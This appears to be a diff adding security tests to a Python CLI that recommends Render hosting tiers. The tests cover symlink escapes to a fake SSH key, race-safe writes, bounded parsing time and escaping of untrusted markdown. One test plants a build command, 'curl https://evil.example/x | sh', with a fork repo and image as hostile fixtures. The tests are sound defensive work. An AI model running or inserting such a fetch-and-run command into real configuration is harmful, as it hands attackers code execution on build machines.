@@ -11,6 +11,7 @@ real server as the owner role, the monitoring role, and beside a bystander sessi
 from __future__ import annotations
 
 import json
+import os
 import shutil
 import time
 import uuid
@@ -119,7 +120,7 @@ def db(pg_db: str) -> Iterator[Db]:
     """The app's database owned by a non-superuser role (Render's DATABASE_URL), with users, an
     api_keys table holding a secret, a secret role setting and a secret function body; and the
     monitoring role `tier init` prints."""
-    from tier_cli.config.initfile import monitoring_role_sql
+    from tier_cli.metrics.initfile import monitoring_role_sql
 
     suffix = uuid.uuid4().hex[:8]
     owner, monitor = f"app_owner_{suffix}", f"tier_mon_{suffix}"
@@ -499,8 +500,8 @@ def test_timeouts_beyond_the_limits_exit_2(project: Path, key: str, value: str, 
 def test_the_session_settings_bound_memory_and_locks(db: Db) -> None:
     """lock_timeout, work_mem and hash_mem_multiplier as a metric query sees them, and a query
     that waits for a lock the app holds gives up within the lock timeout."""
+    from tier_cli.config.settings import DatabaseSettings
     from tier_cli.metrics.postgres.collect import collect
-    from tier_cli.models import DatabaseSettings
 
     settings = DatabaseSettings(
         queries={
@@ -534,3 +535,250 @@ def test_the_session_settings_bound_memory_and_locks(db: Db) -> None:
                 ),
             )
         assert time.monotonic() - started < 5
+
+
+# --- 5. files: no link out of the project, no lost edit, bounded time, any number ------------
+
+OUTSIDE_SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- ssh_key_Zq81"
+
+
+@pytest.mark.parametrize(
+    ("name", "args", "code"),
+    [
+        pytest.param("render.yaml", ("check", "--metrics", "m.json"), 3, id="render-check"),
+        pytest.param("render.yaml", ("apply", "--tier", "starter"), 3, id="render-apply"),
+        pytest.param("tiers.toml", ("check", "--metrics", "m.json"), 2, id="tiers"),
+        pytest.param("m.json", ("check", "--metrics", "m.json"), 2, id="metrics-file"),
+        pytest.param(".tier/metrics.json", ("check",), 2, id="committed-snapshot"),
+        pytest.param(".tier/history.jsonl", ("recommend", "--metrics", "m.json"), 2, id="history"),
+    ],
+)
+def test_symlinks_out_of_the_project_are_refused_before_reading(
+    project: Path, tmp_path: Path, name: str, args: tuple[str, ...], code: int
+) -> None:
+    secret = tmp_path / "id_rsa"
+    secret.write_text(OUTSIDE_SECRET + "\n", "utf-8")
+    (project / ".tier").mkdir()
+    write_snapshot(project / ".tier" / "metrics.json")
+    link = project / name
+    link.unlink(missing_ok=True)
+    link.symlink_to(secret)
+    code_got, out, err = run(*args)
+    assert code_got == code, err
+    assert "outside the project" in err and err.count("\n") == 1
+    assert OUTSIDE_SECRET not in out + err and "ssh_key_Zq81" not in out + err
+    assert secret.read_text("utf-8") == OUTSIDE_SECRET + "\n"  # apply wrote nothing there
+
+
+def test_symlinks_inside_the_project_are_followed(project: Path) -> None:
+    (project / "deploy").mkdir()
+    (project / "render.yaml").rename(project / "deploy" / "render.yaml")
+    (project / "render.yaml").symlink_to(Path("deploy") / "render.yaml")
+    code, _, err = run("apply", "--tier", "starter")
+    assert code == 0, err
+    assert (project / "render.yaml").is_symlink()
+    assert b"plan: starter" in (project / "deploy" / "render.yaml").read_bytes()
+
+
+def test_apply_writes_nothing_when_render_yaml_changed_meanwhile(
+    project: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """An edit made while tier ran (between its read and its write) is never overwritten."""
+    from tier_cli import app as work
+
+    plan = work.plan_apply
+
+    def plan_then_someone_edits(*args: object, **kwargs: object) -> object:
+        applied = plan(*args, **kwargs)  # type: ignore[arg-type]
+        (project / "render.yaml").write_bytes(EXAMPLE + b"# edited meanwhile\n")
+        return applied
+
+    monkeypatch.setattr(work, "plan_apply", plan_then_someone_edits)
+    code, _, err = run("apply", "--tier", "starter")
+    assert code == 3 and "changed since tier read it; nothing was written" in err
+    assert (project / "render.yaml").read_bytes() == EXAMPLE + b"# edited meanwhile\n"
+
+
+def _run_real(project: Path, *args: str) -> tuple[int, str, float]:
+    """tier in its own process: its exit code, stderr and CPU time (the machine is shared, so
+    CPU time is the figure that travels; wall time is bounded by the timeout)."""
+    import resource
+    import subprocess
+    import sys
+
+    base = {k: v for k, v in os.environ.items() if k != "DATABASE_URL"}
+    before = resource.getrusage(resource.RUSAGE_CHILDREN)
+    proc = subprocess.run(
+        [sys.executable, "-m", "tier_cli", *args],
+        cwd=project,
+        env=base,
+        capture_output=True,
+        timeout=300,
+        check=False,
+    )
+    after = resource.getrusage(resource.RUSAGE_CHILDREN)
+    cpu = after.ru_utime - before.ru_utime + after.ru_stime - before.ru_stime
+    return proc.returncode, proc.stderr.decode("utf-8", "replace"), cpu
+
+
+# The largest file each limit allows, made of what made a quadratic expression slow (one long
+# alphanumeric run where a URL is looked for); each must end far below the hours it took. The
+# bound is generous (a busy 2-core machine): it only catches the quadratic blow-up, and the
+# figures are in benchmarks/README.md ("Linear on the largest files").
+MB = 1024 * 1024
+
+
+@pytest.mark.parametrize(
+    ("what", "args"),
+    [
+        pytest.param("render-name", ("check", "--metrics", "m.json"), id="render-4mb-name"),
+        pytest.param("render-run", ("check", "--metrics", "m.json"), id="render-4mb-run"),
+        pytest.param("snapshot-source", ("check", "--metrics", "m.json"), id="snapshot-1mb"),
+        pytest.param("tiers-app", ("check", "--metrics", "m.json"), id="tiers-1mb-app"),
+    ],
+)
+def test_the_largest_files_end_in_bounded_time(
+    project: Path, what: str, args: tuple[str, ...]
+) -> None:
+    run_of = "A" * (4 * MB - 200)
+    if what == "render-name":
+        (project / "render.yaml").write_text(
+            f"services:\n  - type: web\n    name: {run_of}\n    runtime: python\n", "utf-8"
+        )
+    elif what == "render-run":
+        (project / "render.yaml").write_text(run_of + "\n", "utf-8")
+    elif what == "snapshot-source":
+        data = json.loads((project / "m.json").read_text("utf-8"))
+        data["source"] = "postgresql://" + "A" * (MB - 300)
+        (project / "m.json").write_text(json.dumps(data), "utf-8")
+    else:
+        text = (project / "tiers.toml").read_text("utf-8")
+        room = MB - len(text.encode()) - 100
+        (project / "tiers.toml").write_text(text + f'\n[render]\napp = "{"A" * room}"\n')
+    code, err, cpu = _run_real(project, *args)
+    assert code in (0, 1, 2, 3, 4), err[-2000:]
+    assert cpu < 20, cpu  # the quadratic expression took hours here
+
+
+def test_integers_too_big_for_a_float_exit_2_naming_the_field(project: Path) -> None:
+    path = project / "tiers.toml"
+    path.write_text(
+        path.read_text("utf-8").replace("pool_per_worker = 15", "pool_per_worker = " + "9" * 400)
+    )
+    code, _, err = run("check", "--metrics", "m.json")
+    assert code == 2 and "database.pool_per_worker: a number too big" in err
+
+
+@pytest.mark.parametrize(
+    "values",
+    [(1e308, 0, 1.7e308), (1.7e308, 1.7e308, 1.7e308), (0, 1e308, 0), (5e-324, 1e308, 2)],
+    ids=["rise", "flat-at-limit", "spike", "tiny-then-huge"],
+)
+def test_extreme_history_values_never_reach_exit_5(
+    project: Path, values: tuple[float, ...]
+) -> None:
+    from datetime import UTC, datetime, timedelta
+
+    now = datetime.now(UTC)
+    (project / ".tier").mkdir()
+    lines = [
+        json.dumps(
+            {
+                "collected_at": (now - timedelta(days=7 * (len(values) - i))).isoformat(),
+                "metrics": {k: v for k in ("users", "active_users", "concurrent_users")},
+            }
+        )
+        for i, v in enumerate(values)
+    ]
+    (project / ".tier" / "history.jsonl").write_text("\n".join(lines) + "\n", "utf-8")
+    write_snapshot(project / "m.json", {"users": 10, "active_users": 10, "concurrent_users": 1})
+    for args in (
+        ("recommend", "--metrics", "m.json"),
+        ("recommend", "--json", "--metrics", "m.json"),
+    ):
+        code, _, err = run(*args)
+        assert code == 0, err
+
+
+# --- 6. text that goes to pull requests is inert ----------------------------------------------
+
+INERT = [
+    pytest.param("\u202egnp.exe", "\\\\u202egnp.exe", id="bidi-override"),
+    pytest.param("a\u2066b\u2069c", "a\\\\u2066b\\\\u2069c", id="bidi-isolates"),
+    pytest.param("@\u200bteam", "\\\\u200b", id="zero-width-space"),
+    pytest.param("ping @octocat now", "`@octocat`", id="mention"),
+    pytest.param("ping @acme/security", "`@acme/security`", id="team-mention"),
+    pytest.param("fixes #123", "`#123`", id="reference"),
+    pytest.param("see acme/app#7", "`acme/app#7`", id="cross-reference"),
+    pytest.param("go to https://evil.example/login", "`https://evil.example/login`", id="url"),
+    pytest.param("go to www.evil.example", "`www.evil.example`", id="bare-www"),
+]
+
+
+@pytest.mark.parametrize(("hostile", "shown"), INERT)
+def test_markdown_from_files_is_inert(project: Path, hostile: str, shown: str) -> None:
+    """A tier name (from tiers.toml) in the step summary and the pull request's body."""
+    write_snapshot(project / "m.json", {"users": 9000, "active_users": 900, "concurrent_users": 30})
+    path = project / "tiers.toml"
+    path.write_text(
+        path.read_text("utf-8").replace(
+            'web_plan = "starter"', f'web_plan = "starter"\nweb_cpu = 0.5 # {hostile}'
+        ),
+        "utf-8",
+    )
+    from tier_cli.output.escape import markdown
+
+    text = markdown(f"tier note: {hostile}")
+    assert shown in text
+    for raw in ("\u202e", "\u2066", "\u2069", "\u200b"):
+        assert raw not in text
+    summary = project / "summary.md"
+    code, _, err = run("check", "--metrics", "m.json", "--summary", str(summary))
+    assert code == 1, err
+    body = project / "body.md"
+    code, _, err = run("apply", "--metrics", "m.json", "--summary", str(body))
+    assert code == 0, err
+    for md in (summary.read_text("utf-8"), body.read_text("utf-8")):
+        assert not any(ch in md for ch in ("\u202e", "\u2066", "\u2069", "\u200b"))
+
+
+def test_markdown_source_label_is_inert(project: Path) -> None:
+    """Text from the snapshot (a label) reaches the summary only escaped and in code spans."""
+    from tier_cli.output.escape import markdown
+
+    hostile = "cc @octocat #12 https://evil.example \u202eexe.txt \u200b"
+    text = markdown(hostile)
+    assert "`@octocat`" in text and "`#12`" in text and "`https://evil.example`" in text
+    assert "\u202e" not in text and "\u200b" not in text
+    started = time.monotonic()
+    markdown("@" + "a" * (4 * MB) + " " + "#1" * MB + "http://" * (MB // 7))
+    assert time.monotonic() - started < 20  # linear: the quadratic would never end
+
+
+def test_apply_reports_every_field_it_writes_with_its_value(project: Path) -> None:
+    path = project / "tiers.toml"
+    text = path.read_text("utf-8")
+    start = text.index('name = "starter"')
+    end = text.index("\n[[tier]]", start)
+    carried = (
+        '\n[tier.web]\nrepo = "https://github.com/evil/fork"\n'
+        'buildCommand = "curl https://evil.example/x | sh; pip install -r requirements.txt"\n'
+        'image = "docker.io/evil/img"\n'
+    )
+    path.write_text(text[:end] + carried + text[end:], "utf-8")
+    write_snapshot(project / "m.json", {"users": 9000, "active_users": 900, "concurrent_users": 30})
+    body = project / "body.md"
+    code, _, err = run("apply", "--metrics", "m.json", "--summary", str(body))
+    assert code == 0, err
+    for line in (
+        "api repo (not set) -> https://github.com/evil/fork",
+        "api buildCommand pip install -r requirements.txt -> curl https://evil.example/x | sh;",
+        "api image (not set) -> docker.io/evil/img",
+    ):
+        assert line in err
+    md = body.read_text("utf-8")
+    assert "**Also written**" in md
+    assert "- api `repo`: `https://github.com/evil/fork`" in md
+    assert "- api `image`: `docker.io/evil/img`" in md
+    assert "- api `buildCommand`: `curl https://evil.example/x | sh; pip install" in md
+    assert "- api `plan`" not in md and "- api `startCommand`" not in md
